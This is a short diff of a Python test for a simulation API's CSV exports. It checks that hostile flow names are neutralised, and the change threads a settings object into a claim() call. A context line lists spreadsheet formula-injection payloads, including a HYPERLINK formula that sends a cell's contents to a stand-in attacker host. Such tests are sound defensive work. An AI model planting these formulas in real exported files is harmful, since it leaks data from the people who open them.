@@ -11,6 +11,7 @@ import anyio
 import tcpsim
 from api.tabular import TableFormat, csv_text, table_response
 from services.runs.service import claim, complete
+from services.settings import get_settings
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"]
 
@@ -60,7 +61,7 @@ def test_a_runs_flow_and_trace_downloads_neutralise_a_hostile_flow_name(client, 
         "outputs": {"trace_interval_s": 0.25},
     }
     run_id = client.post("/v1/runs", json={"scenario": scenario}).json()["id"]
-    complete(db_session, run_id, tcpsim.run(claim(db_session, run_id, "test")))
+    complete(db_session, run_id, tcpsim.run(claim(db_session, run_id, "test", get_settings())))
     db_session.commit()
 
     flows = list(csv.DictReader(io.StringIO(client.get(f"/v1/runs/{run_id}/flows?format=csv").text)))
